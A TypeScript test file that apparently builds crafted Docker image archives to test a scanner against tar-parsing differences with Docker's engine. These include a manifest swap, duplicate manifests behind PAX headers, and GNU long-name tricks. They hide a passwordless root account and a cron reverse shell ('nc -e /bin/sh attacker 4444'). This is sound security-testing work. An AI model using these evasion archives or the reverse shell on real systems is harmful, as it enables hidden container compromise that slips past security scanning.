/**
 * The crafted archives of the attack tests, in one place, so that the engine can be shown what they do:
 *   node --import tsx test/attack/crafted.ts DIR     writes DIR/{swap,gdup,t1,t2,t3}.tar
 *   sh test/attack/engine-confirm.sh DIR             loads each into a private Docker 26 and lists what it made
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { header, paxRecord, tar } from '../sources/tar/helpers.js';
import { configOf, hex, layerTar, legacySave, ociMembers, sha256, type ImageSpec } from '../sources/archive/hostile-helpers.js';

const pad = (b: Buffer) => Buffer.concat([b, Buffer.alloc((512 - (b.length % 512)) % 512)]);
const member = (name: string, body: Buffer) => Buffer.concat([header({ name, body }), pad(body)]);

export const GOOD = layerTar({ 'etc/passwd': 'root:x:0:0::/root:/bin/sh\n' });
export const EVIL = layerTar({ 'etc/passwd': 'root::0:0::/root:/bin/sh\nevil::0:0::/:/bin/sh\n' });
export const A: ImageSpec = { tag: 'app:1', layers: [GOOD] };
export const B: ImageSpec = { tag: 'app:1', layers: [EVIL] };

/** Docker >= 25 layout: index.json names image A, manifest.json (what the classic `docker load` reads) image B. */
export function swapArchive(): Buffer {
  const members = ociMembers([A]);
  const cfgB = configOf(B);
  members.push({ name: `blobs/sha256/${hex(sha256(cfgB))}`, body: cfgB });
  members.push({ name: `blobs/sha256/${hex(sha256(EVIL))}`, body: EVIL });
  members.push({ name: 'manifest.json', body: Buffer.from(JSON.stringify([{ Config: `blobs/sha256/${hex(sha256(cfgB))}`, RepoTags: ['app:1'], Layers: [`blobs/sha256/${hex(sha256(EVIL))}`] }])) });
  return tar(members);
}

/** Legacy save with a second manifest.json (image B) behind a PAX global header. */
export function gdupArchive(): Buffer {
  const ca = configOf(A);
  const cb = configOf(B);
  const manifest = (cfg: Buffer, l: Buffer) => Buffer.from(JSON.stringify([{ Config: hex(sha256(cfg)) + '.json', RepoTags: ['app:1'], Layers: [hex(sha256(l)) + '/layer.tar'] }]));
  const g = paxRecord('path', 'zz-ignored');
  return Buffer.concat([
    member(hex(sha256(GOOD)) + '/layer.tar', GOOD),
    member(hex(sha256(ca)) + '.json', ca),
    member('manifest.json', manifest(ca, GOOD)),
    member(hex(sha256(EVIL)) + '/layer.tar', EVIL),
    member(hex(sha256(cb)) + '.json', cb),
    // Go's archive/tar returns this as an entry of its own and does not apply it to the next member.
    header({ name: 'pax_global_header', type: 'g', size: g.length }),
    pad(g),
    member('manifest.json', manifest(cb, EVIL)),
    Buffer.alloc(1024),
  ]);
}

export const CRON = Buffer.from('* * * * * root nc -e /bin/sh attacker 4444\n');
const divergent = (extra: Buffer[]) =>
  Buffer.concat([header({ name: 'etc/', type: '5', mode: 0o755 }), header({ name: 'etc/hostname', body: Buffer.from('box\n') }), pad(Buffer.from('box\n')), ...extra, Buffer.alloc(1024)]);
const g = paxRecord('path', 'etc/motd');
const hidden = Buffer.concat([header({ name: 'etc/cron.d/evil', body: CRON }), pad(CRON)]);
const ln = Buffer.from('etc/cron.d/evil\0');
const px = paxRecord('path', 'etc/motd');

/** Layers Go's archive/tar (the engine) reads differently from layerscope: each hides /etc/cron.d/evil. */
export const DIVERGENT: [string, string, Buffer][] = [
  ['t1', 'A: PAX global header', divergent([header({ name: 'pax_global_header', type: 'g', size: g.length }), pad(g), header({ name: 'etc/cron.d/evil', body: CRON }), pad(CRON)])],
  ['t2', 'B: typeflag NUL with a trailing slash', divergent([header({ name: 'var/cache/', type: '\0', size: hidden.length }), hidden])],
  [
    't3',
    'C: GNU long name and PAX path',
    divergent([header({ name: '././@LongLink', type: 'L', size: ln.length }), pad(ln), header({ name: 'PaxHeaders/x', type: 'x', size: px.length }), pad(px), header({ name: 'placeholder', body: CRON }), pad(CRON)]),
  ],
];

export function divergentArchive(tag: string, layer: Buffer): Buffer {
  return legacySave([{ tag: `${tag}:1`, layers: [layer] }]);
}

if (process.argv[1] && import.meta.filename === process.argv[1]) {
  const dir = process.argv[2];
  if (!dir) throw new Error('usage: crafted.ts DIR');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'swap.tar'), swapArchive());
  writeFileSync(join(dir, 'gdup.tar'), gdupArchive());
  for (const [tag, , layer] of DIVERGENT) writeFileSync(join(dir, `${tag}.tar`), divergentArchive(tag, layer));
}
